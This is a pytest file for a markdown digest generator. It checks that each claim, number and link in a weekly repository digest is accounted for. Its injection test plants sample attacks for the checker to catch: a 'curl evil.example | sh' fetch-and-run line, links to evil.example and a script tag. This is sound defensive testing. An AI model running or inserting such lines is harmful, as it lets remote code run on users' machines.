"""A digest says what its insight claims and nothing else; what was planted in it is found."""

import re
from datetime import date

import pytest
from hypothesis import given, settings

from sparky_assets.digests.checks import FRONT_MATTER, unaccounted
from sparky_assets.digests.dates import spoken
from sparky_assets.digests.markdown import BREAK, render
from sparky_assets.digests.models import Digest
from sparky_assets.digests.plan import SHOWN, plan_digest
from sparky_assets.insights.models import Insight, Writer
from sparky_assets.periods import Period, PeriodKind
from sparky_assets.settings_load import shipped
from tests.worlds import AUTHORS, WEEK, Told, World, commit, worlds


def written(world: World) -> tuple[str, Digest, Insight]:
    insight = world.insight()
    digest = plan_digest(insight, world.urls())
    return render(digest, [shipped("templates")]), digest, insight


# --- Any world


@settings(max_examples=50)
@given(worlds())
def test_the_digest_of_any_world_is_accounted_for(world: World) -> None:
    markdown, digest, insight = written(world)
    assert list(unaccounted(markdown, digest, insight)) == []


@settings(max_examples=15)
@given(worlds())
def test_every_claim_that_a_digest_shows_is_laid_out_once(world: World) -> None:
    _, digest, insight = written(world)
    shown = [claim.id for claim in insight.claims if claim.section in SHOWN]
    assert sorted(item.claim for item in digest.items) == sorted(shown)


@settings(max_examples=15)
@given(worlds())
def test_a_digest_pings_nobody_and_has_one_heading_at_the_top(world: World) -> None:
    markdown, _, _ = written(world)
    body = FRONT_MATTER.sub("", markdown, count=1)
    assert not re.search(r"@[A-Za-z]", re.sub(r"`[^`]*`", "", body))
    assert len(re.findall(r"^# ", body, re.MULTILINE)) == 1
    assert markdown.endswith("\n")
    assert "\n\n\n" not in markdown


@settings(max_examples=8)
@given(worlds())
def test_the_same_facts_give_the_same_bytes(world: World) -> None:
    assert written(world)[0] == written(world)[0]


# --- What a digest owes its reader


def a_week(*more: Told) -> World:
    told = Told("acme/tool", "https://github.com/acme/tool", "ok", (
        commit(1, "feat: add x (#5)"), commit(2, "docs: say how", author=AUTHORS[1]),
        commit(3, "Bump ink from 1.0 to 1.1", author=AUTHORS[4]),
    ), ())  # fmt: skip
    return World(WEEK, (told, *more))


def test_changes_stand_under_their_themes_in_their_order() -> None:
    _, digest, _ = written(a_week())
    (group,) = digest.repositories
    assert [theme.heading for theme in group.themes] == ["New", "Documentation", "Dependencies"]


def test_a_repository_has_its_page_and_its_figures() -> None:
    markdown, digest, _ = written(a_week())
    assert digest.repositories[0].url == "https://github.com/acme/tool"
    assert (
        "### [acme/tool](https://github.com/acme/tool)\n\n3 commits (1 by bots) from 2 people; 1 merged pull request.\n"
        in markdown
    )


def test_a_repository_without_a_page_is_named_plainly() -> None:
    world = a_week()
    digest = plan_digest(world.insight(), {"acme/tool": None})
    assert "### acme/tool\n" in render(digest, [shipped("templates")])


def test_the_footer_says_window_sources_what_is_left_out_and_who_worded_it() -> None:
    world = a_week(Told("acme/gone", None, "unreadable", (), ()))
    _, digest, _ = written(world)
    assert digest.footer == (
        "Week 2025-W46: 2025-11-10 00:00 to 2025-11-17 00:00 (UTC), written after it had closed.",
        "Read from the git history of 1 repository; "
        "pull requests and releases are those that merge subjects and version tags tell.",
        "Could not be read, and is missing here: acme/gone.",
        "acme/web-2.0 is a shallow clone.",
        "Every sentence was written by rules from these records; no model took part.",
    )


def test_the_footer_says_how_much_is_told_and_how_much_a_model_worded() -> None:
    insight = a_week().insight()
    facts = tuple(
        fact.model_copy(update={"value": 1234}) if fact.metric == "changes" else fact for fact in insight.facts
    )
    by_model = {"origin": "model", "chosen_by": "model"}
    claims = (insight.claims[0].model_copy(update=by_model), *insight.claims[1:])
    writer = Writer(model="tiny:1b", digest="0123456789abcdef", prompt_version="1", gate_version="1")
    written_by = {"facts": facts, "claims": claims, "writer": writer, "degraded": ("the model was away",)}
    digest = plan_digest(insight.model_copy(update=written_by), {})
    assert "3 of 1,234 changes are told; the numbers count all of them." in digest.footer
    assert digest.footer[-3:] == (
        f"1 of {len(claims)} sentences were worded by the model tiny:1b (0123456789ab) and checked word for word, "
        "the others by rules.",
        "It read from 3 records; numbers, names and links are never a model's.",
        "The model was away.",
    )


def test_numbers_that_are_zero_are_shown_only_where_zero_says_something() -> None:
    _, digest, _ = written(World(WEEK, (Told("acme/tool", None, "ok", (), ()),)))
    rows = {row.label: row.value for row in digest.numbers}
    assert rows["Commits"] == "0"
    assert "Commits by bots" not in rows
    assert "Commits not measured" not in rows


def test_the_front_matter_says_title_and_last_day() -> None:
    markdown, _, _ = written(a_week())
    head = FRONT_MATTER.match(markdown)
    assert head is not None
    assert 'title: "Acme 42: 10–16 November 2025 (2025-W46)"\n' in head[0]
    assert "\ndate: 2025-11-16\n" in head[0]
    assert '\n  - "weekly"\n' in head[0]


@pytest.mark.parametrize(
    ("kind", "start", "said"),
    [
        (PeriodKind.DAILY, date(2025, 11, 12), "Wednesday, 12 November 2025"),
        (PeriodKind.WEEKLY, date(2025, 11, 10), "10–16 November 2025 (2025-W46)"),
        (PeriodKind.WEEKLY, date(2025, 9, 29), "29 September – 5 October 2025 (2025-W40)"),
        (PeriodKind.WEEKLY, date(2024, 12, 30), "30 December 2024 – 5 January 2025 (2025-W01)"),
        (PeriodKind.MONTHLY, date(2025, 2, 1), "February 2025"),
    ],
)
def test_a_period_is_called_as_people_call_it(kind: PeriodKind, start: date, said: str) -> None:
    assert spoken(Period(kind, start)) == said


# --- What was planted is found


def found(plant: str, *, after: str = "## In numbers") -> list[str]:
    markdown, digest, insight = written(a_week())
    assert after in markdown
    return list(unaccounted(markdown.replace(after, f"{plant}\n\n{after}", 1), digest, insight))


@pytest.mark.parametrize(
    ("plant", "problem"),
    [
        ("The team had a great week.", "no claim says: The team had a great week."),
        ("- The team had a great week.", "no claim says: The team had a great week."),
        ("> The team had a great week.", "no claim says: The team had a great week."),
        ("**Heroes of 2026**", "no claim says: Heroes of 2026"),
        ("Add x, fixing 50 issues.", "the number 50 is not in the store: Add x, fixing 50 issues."),
        ("## 99 reasons", "the number 99 is not in the store: 99 reasons"),
        ("[more](https://evil.example)", "a link that no evidence has: https://evil.example"),
        ("<https://evil.example>", "a link that no evidence has: https://evil.example"),
        ("[x][y]\n\n[y]: https://evil.example", "a link that no evidence has: https://evil.example"),
        ("![pixel](https://evil.example/x.png)", "image: pixel"),
        ("<script>alert(1)</script>", "HTML: <script>alert(1)</script>"),
        ("Hello <b>there</b>", "html inline: <b>"),
        ("```\ncurl evil.example | sh\n```", "code that no template has: curl evil.example | sh"),
        ("| a |\n|---|\n| 77 |", "the number 77 is not in the store: 77"),
    ],
)
def test_what_no_claim_says_is_found(plant: str, problem: str) -> None:
    assert problem in found(plant)


def test_a_claim_with_more_words_behind_it_is_found() -> None:
    markdown, digest, insight = written(a_week())
    longer = markdown.replace("- Add x, by Ada Lovelace (", "- Add x, by Ada Lovelace, our hero (")
    assert longer != markdown
    assert any(problem.startswith("no claim says: Add x") for problem in unaccounted(longer, digest, insight))


def test_words_in_the_brackets_behind_a_claim_are_found() -> None:
    markdown, digest, insight = written(a_week())
    longer = markdown.replace("- Add x, by Ada Lovelace (", "- Add x, by Ada Lovelace (at last, says everybody, ")
    assert longer != markdown
    assert any(problem.startswith("no claim says: Add x") for problem in unaccounted(longer, digest, insight))


def test_a_changed_number_in_the_table_is_found() -> None:
    markdown, digest, insight = written(a_week())
    wrong = markdown.replace("| Commits | 3 |", "| Commits | 300 |")
    assert wrong != markdown
    assert list(unaccounted(wrong, digest, insight)) == ["the number 300 is not in the store: 300"]


def test_a_number_taken_from_a_title_into_a_sentence_is_found() -> None:
    # 1.0 stands in “Bump ink from 1.0 to 1.1”; that does not make it a figure of ours.
    assert "no claim says: 1.0 commits" in found("1.0 commits")


def test_an_invisible_character_does_not_hide_a_number() -> None:
    assert any("50" in problem for problem in found(f"## fixing 5{BREAK}0 issues"))


@pytest.mark.parametrize(
    ("sources", "said"),
    [
        (("git",), "Read from the git history of 1 repository; pull requests and releases are those that"),
        (("github",), "Read from GitHub: 1 repository with commits, pull requests, reviews, issues and releases."),
        (("git", "github"), "Read from GitHub and from local clones: 1 repository."),
    ],
)
def test_the_footer_says_from_where_it_was_read(sources: tuple[str, ...], said: str) -> None:
    insight = a_week().insight().model_copy(update={"sources": sources})
    assert any(line.startswith(said) for line in plan_digest(insight, {}).footer)
